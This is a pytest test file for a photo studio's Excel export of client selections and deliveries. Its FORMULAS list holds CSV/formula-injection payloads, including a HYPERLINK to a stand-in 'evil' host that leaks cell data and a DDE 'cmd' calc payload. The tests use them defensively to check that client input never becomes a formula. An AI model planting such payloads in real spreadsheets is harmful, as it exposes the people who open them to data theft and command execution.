import io
import re
import shutil
import subprocess
import zipfile
from datetime import UTC, date, datetime
from xml.etree import ElementTree
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from django.test import override_settings
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from pumbaphoto_wagtail.delivery.spreadsheets import (
    CUT_MARK,
    MAX_CELL_UNITS,
    ClientDetails,
    DeliveryRow,
    GallerySheetInfo,
    SelectionRow,
    cell_text,
    local_time,
    sheet_title,
)
from pumbaphoto_wagtail.delivery.workbook import selection_workbook

BERLIN = ZoneInfo("Europe/Berlin")
PICKED_AT = datetime(2026, 7, 1, 22, 30, 15, 999, tzinfo=UTC)

FORMULAS = [
    '=HYPERLINK("http://evil/"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1",
    "=1",
    "=",
    "{=1}",
    "  =1+1",
    "＝1+1",
    "#N/A",
    "#REF!",
    "1234",
    "2026-07-01",
    "TRUE",
    "50%",
]


def info(**changes):
    facts = {
        "title": "Anna & Tom",
        "studio": "Studio Maria",
        "time_zone": BERLIN,
        "exported_at": PICKED_AT,
        "clients": [ClientDetails(name="Anna", email="anna@example.com", phone="+49 30 1")],
        "shoot_date": date(2026, 6, 13),
        "state": "Selections Submitted",
        "photo_count": 500,
        "selection_count": 48,
        "note_count": 3,
    }
    return GallerySheetInfo(**{**facts, **changes})


def row(**changes):
    return SelectionRow(**{"file_name": "IMG_1.CR2", "selected_at": PICKED_AT, **changes})


def opened(rows=(), deliveries=(), find_picture=None, **changes):
    data = selection_workbook(
        info(**changes), rows, deliveries=deliveries, find_picture=find_picture
    )
    return openpyxl.load_workbook(io.BytesIO(data))


def values(sheet):
    return [list(line) for line in sheet.iter_rows(values_only=True)]


def test_the_first_sheet_tells_about_the_gallery():
    facts = [tuple(line) for line in values(opened().worksheets[0])]
    assert facts == [
        ("About", "Details"),
        ("Gallery", "Anna & Tom"),
        ("Studio", "Studio Maria"),
        ("Client", "Anna"),
        ("E-mail", "anna@example.com"),
        ("Phone", "+49 30 1"),
        ("Shoot date", datetime(2026, 6, 13)),
        ("State", "Selections Submitted"),
        ("Round", 1),
        ("Photos", 500),
        ("Selected photos", 48),
        ("Notes", 3),
        ("Exported", datetime(2026, 7, 2, 0, 30, 15)),
        ("Time zone", "Europe/Berlin"),
    ]


def test_every_client_of_a_gallery_is_named():
    clients = [ClientDetails(name="Anna"), ClientDetails(name="Tom")]
    facts = values(opened(clients=clients).worksheets[0])
    assert [line[1] for line in facts if line[0] == "Client"] == ["Anna", "Tom"]


def test_the_second_sheet_lists_file_note_and_time():
    rows = [row(note="please brighten"), row(file_name="IMG_2.CR2", selected_at=None)]
    assert values(opened(rows).worksheets[1]) == [
        ["File name", "Client note", "Selected at"],
        ["IMG_1.CR2", "please brighten", datetime(2026, 7, 2, 0, 30, 15)],
        ["IMG_2.CR2", None, None],
    ]


def test_recipient_and_section_make_columns_where_there_are_any():
    rows = [row(), row(recipient="Anna"), row(section="Ceremony")]
    lines = values(opened(rows).worksheets[1])
    assert lines[0] == ["File name", "Client note", "Selected at", "Section", "Recipient"]
    assert [line[3:] for line in lines[1:]] == [[None, None], [None, "Anna"], ["Ceremony", None]]


def test_a_note_without_a_heart_is_not_taken_for_a_pick():
    rows = [row(), row(note="please not Aunt Gerda", picked=False)]
    lines = values(opened(rows).worksheets[1])
    assert lines[0][:2] == ["File name", "Selected"]
    assert [line[1] for line in lines[1:]] == ["yes", "no"]


def test_a_selection_of_nothing_is_a_sheet_with_its_header():
    assert values(opened().worksheets[1]) == [["File name", "Client note", "Selected at"]]


@pytest.mark.parametrize("sheet", [0, 1])
def test_all_sheets_share_one_look(sheet):
    sheet = opened([row(note="x")]).worksheets[sheet]
    for header in sheet[1]:
        assert header.font.bold
        assert header.border.bottom.style == "medium"
        assert header.border.left.style == "thin"
    for cell in sheet[2]:
        assert not cell.font.bold
        assert cell.border.bottom.style == "thin"
    assert sheet.freeze_panes == "A2"
    assert sheet.print_title_rows == "$1:$1"
    assert all(sheet.column_dimensions[letter].width > 15 for letter in "AB")


def test_the_selections_can_be_filtered():
    assert opened([row()]).worksheets[1].auto_filter.ref == "A1:C2"


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_client_types_stays_a_text(text):
    client = ClientDetails(name=text, email=text, phone=text)
    book = opened(
        [row(file_name=text, note=text, recipient=text, section=text)],
        title=text,
        studio=text,
        clients=[client],
        state=text,
    )
    cells = [cell for sheet in book for line in sheet.iter_rows() for cell in line]
    assert {cell.data_type for cell in cells} <= {"s", "n", "d"}
    shown = text.replace("\r", "\n")
    # Six facts, and four cells in the list of all and in that of the recipient.
    assert sum(cell.value == shown and cell.data_type == "s" for cell in cells) == 14


def test_no_sheet_holds_a_formula():
    data = selection_workbook(info(), [row(note=text, file_name=text) for text in FORMULAS])
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        sheets = [name for name in package.namelist() if "worksheets/" in name]
        assert len(sheets) == 2, sheets
        assert not any(b"<f>" in package.read(name) for name in sheets)


@pytest.mark.parametrize("text", [text for text in FORMULAS if text[0] in "=+-@\t\r ＝"])
def test_editing_a_cell_does_not_make_a_formula_of_it(text):
    cell = opened([row(note=text)]).worksheets[1]["B2"]
    assert cell.quotePrefix


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("a\x00b\x0bc\x1fd", "abcd"),
        ("half \ud800 a character", "half  a character"),
        ("no \ufffe\uffff characters", "no  characters"),
        ("one\r\ntwo\rthree\n", "one\ntwo\nthree\n"),
        ("tab\tand 😀 é 日本", "tab\tand 😀 é 日本"),
    ],
)
def test_characters_that_no_cell_can_hold_are_dropped(typed, kept):
    assert opened([row(note=typed)]).worksheets[1]["B2"].value == kept


def test_a_name_that_looks_like_an_escape_is_shown_as_it_is():
    # What Excel decodes: "_x005F_" is an underscore.
    assert cell_text("IMG_x4521_.jpg") == "IMG_x005F_x4521_.jpg"
    assert cell_text("IMG_xylo_.jpg") == "IMG_xylo_.jpg"


@pytest.mark.parametrize("letter", ["a", "😀"])
def test_a_text_too_long_for_a_cell_says_so(letter):
    text = opened([row(note=letter * 40_000)]).worksheets[1]["B2"].value
    assert len(text.encode("utf-16-le")) // 2 in (MAX_CELL_UNITS, MAX_CELL_UNITS - 1)
    assert text == letter * text.count(letter) + CUT_MARK


def test_a_text_that_just_fits_is_kept():
    text = "a" * MAX_CELL_UNITS
    assert cell_text(text) == text


def test_times_are_shown_as_the_clock_on_the_wall_showed_them():
    assert local_time(PICKED_AT, BERLIN) == datetime(2026, 7, 2, 0, 30, 15)
    assert local_time(None, BERLIN) is None


def test_a_time_without_a_zone_is_an_error():
    with pytest.raises(ValueError, match="time zone"):
        local_time(datetime(2026, 7, 2), BERLIN)


@pytest.mark.parametrize(
    ("text", "title"),
    [
        ("Selections", "Selections"),
        ("Tom's / Anna's: [best] *?\\", "Tom's   Anna's   best"),
        ("'quoted'", "quoted"),
        ("x" * 40, "x" * 31),
        ("", "Sheet"),
        ("/", "Sheet"),
        ("History", "History 2"),
        ("a\x00\ud800b", "ab"),
    ],
)
def test_a_sheet_gets_a_title_excel_accepts(text, title):
    assert sheet_title(text) == title


def test_two_sheets_never_share_a_title():
    long = "x" * 40
    assert sheet_title("ANNA", taken=["anna"]) == "ANNA 2"
    assert sheet_title(long, taken=[sheet_title(long)]) == "x" * 29 + " 2"
    assert sheet_title("", taken=["Sheet"]) == "Sheet 2"


def test_the_limits_that_are_set_are_told():
    changes = {"minimum": 10, "maximum": 60, "extras_words": "at 15 €", "round": 2}
    facts = [tuple(line) for line in values(opened(**changes).worksheets[0])]
    assert facts[8:12] == [
        ("Round", 2),
        ("At least", 10),
        ("At most", 60),
        ("About extra photos", "at 15 €"),
    ]


def test_each_recipient_has_a_sheet():
    rows = [
        row(recipient="Anna", list="To edit"),
        row(recipient="Tom", file_name="IMG_2.CR2", list="To edit"),
        row(recipient="Anna", file_name="IMG_3.CR2", list="Album"),
    ]
    book = opened(rows)
    assert book.sheetnames == ["Gallery", "Selections", "Anna", "Tom"]
    assert [line[0] for line in values(book["Anna"])[1:]] == ["IMG_1.CR2", "IMG_3.CR2"]
    assert [line[3] for line in values(book["Anna"])] == ["List", "To edit", "Album"]
    assert len(values(book["Selections"])) == 4


def test_recipients_of_one_name_or_of_none_that_a_sheet_can_have_get_sheets_of_their_own():
    names = ["Selections", "SELECTIONS", "a/b", "a:b", "", "x" * 40, "x" * 50, "History"]
    book = opened([row(recipient=name) for name in names])
    assert len(book.sheetnames) == len({name.casefold() for name in book.sheetnames}) == 9
    assert all(len(name) <= 31 for name in book.sheetnames)


def test_what_was_delivered_has_a_sheet():
    item = {"number": 2, "sent_at": PICKED_AT, "file_name": "IMG_1_edit.jpg", "size": 12}
    book = opened(deliveries=[DeliveryRow(**item, folder="Ceremony", photo="IMG_1.CR2")])
    assert values(book["Deliveries"]) == [
        ["Delivery", "Sent", "File name", "Folder", "Photo", "Bytes"],
        [2, datetime(2026, 7, 2, 0, 30, 15), "IMG_1_edit.jpg", "Ceremony", "IMG_1.CR2", 12],
    ]


def test_the_camera_s_file_is_told_where_it_has_another_name():
    lines = values(opened([row(), row(camera_name="IMG_9.NEF")]).worksheets[1])
    assert lines[0][-1] == "Camera's file"
    assert [line[-1] for line in lines[1:]] == [None, "IMG_9.NEF"]


def test_pictures_stand_beside_their_rows_as_they_are():
    stream = io.BytesIO()
    Image.new("RGB", (120, 80), "red").save(stream, "JPEG")
    found = {"IMG_2.CR2": (stream.getvalue(), 120, 80)}
    rows = [row(), row(file_name="IMG_2.CR2")]

    book = opened(rows, find_picture=lambda row: found.get(row.file_name))

    sheet = book.worksheets[1]
    assert [cell.value for cell in sheet[1]][:2] == ["Photo", "File name"]
    (picture,) = sheet._images
    assert picture.anchor._from.row == 2
    assert picture._data() == stream.getvalue()
    assert sheet.row_dimensions[3].height == 64


@pytest.mark.parametrize(("paper", "number"), [("A4", 9), ("Letter", 1)])
def test_sheets_are_printed_across_on_the_sites_paper(paper, number):
    with override_settings(PUMBAPHOTO={"PAPER": paper}):
        sheets = opened([row(recipient="Anna")], title="Anna & Tom").worksheets
    for sheet in sheets:
        assert (sheet.page_setup.orientation, sheet.page_setup.paperSize) == ("landscape", number)
        assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert sheet.oddFooter.left.text == "Anna && Tom"
        assert sheet.oddFooter.right.text == "&P / &N"


def test_the_first_sheet_is_no_list_to_be_filtered():
    assert opened([row()]).worksheets[0].auto_filter.ref is None


@settings(max_examples=15, deadline=None)
@given(st.text(max_size=40))
def test_any_text_is_kept_as_far_as_a_cell_can_hold_it_and_never_a_formula(text):
    data = selection_workbook(info(title=text), [row(file_name=text, note=text, recipient=text)])

    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for name in package.namelist():
            root = ElementTree.fromstring(package.read(name))
            assert not [one for one in root.iter() if one.tag.endswith("}f")]
    cell = openpyxl.load_workbook(io.BytesIO(data)).worksheets[1]["A2"]
    held = "".join(re.findall("[\t\n\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]", lines(text)))
    assert (cell.value or "") == held
    assert cell.data_type == ("s" if held else "n")


def lines(text):
    return text.replace("\r\n", "\n").replace("\r", "\n")


def test_libreoffice_opens_it(tmp_path):
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice is not installed (soffice)")
    rows = [row(note="=1+1", recipient="Anna"), row(note="zwei", recipient="Tom")]
    book = tmp_path / "selection.xlsx"
    book.write_bytes(selection_workbook(info(), rows))
    command = [soffice, "--headless", f"-env:UserInstallation=file://{tmp_path}/profile"]
    command += ["--convert-to", "ods", "--outdir", str(tmp_path), str(book)]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    with zipfile.ZipFile(tmp_path / "selection.ods") as package:
        text = package.read("content.xml").decode()
    assert all(f'table:name="{name}"' in text for name in ("Gallery", "Selections", "Anna", "Tom"))
    assert "=1+1" in text
    assert "table:formula" not in text


def test_the_file_carries_the_studios_name_and_not_the_librarys():
    assert opened().properties.creator == "Studio Maria"
